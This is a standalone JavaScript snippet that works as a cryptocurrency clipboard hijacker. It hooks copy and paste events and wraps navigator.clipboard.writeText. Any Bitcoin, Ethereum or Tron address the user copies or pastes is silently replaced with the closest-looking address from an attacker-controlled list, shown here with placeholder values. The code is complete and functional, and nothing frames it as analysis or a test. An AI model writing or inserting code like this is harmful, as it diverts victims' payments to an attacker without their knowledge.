(function () {
  var own = {
    btc: ["bc1qplaceholder0000000000000000000000001", "bc1qplaceholder0000000000000000000000002"],
    eth: ["0x000000000000000000000000000000000000dEaD", "0x00000000000000000000000000000000dEaD0001"],
    trx: ["TPlaceholder000000000000000000001"]
  };
  var rx = {
    btc: /\b(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g,
    eth: /\b0x[a-fA-F0-9]{40}\b/g,
    trx: /\bT[A-Za-z1-9]{33}\b/g
  };
  function dist(a, b) {
    var d = 0;
    for (var i = 0; i < Math.min(a.length, b.length); i++) d += a[i] === b[i] ? 0 : 1;
    return d;
  }
  function nearest(a, list) {
    return list.slice().sort(function (x, y) { return dist(a, x) - dist(a, y); })[0];
  }
  function change(text) {
    Object.keys(rx).forEach(function (k) {
      text = text.replace(rx[k], function (m) { return nearest(m, own[k]); });
    });
    return text;
  }
  document.addEventListener("copy", function (e) {
    var s = String(window.getSelection());
    var n = change(s);
    if (n !== s) {
      e.clipboardData.setData("text/plain", n);
      e.preventDefault();
    }
  }, true);
  var w = navigator.clipboard && navigator.clipboard.writeText;
  if (w) navigator.clipboard.writeText = function (t) { return w.call(navigator.clipboard, change(String(t))); };
  document.addEventListener("paste", function (e) {
    var t = e.clipboardData.getData("text");
    var n = change(t);
    if (n !== t && e.target && "value" in e.target) {
      e.preventDefault();
      e.target.value = n;
      e.target.dispatchEvent(new Event("input", { bubbles: true }));
    }
  }, true);
})();
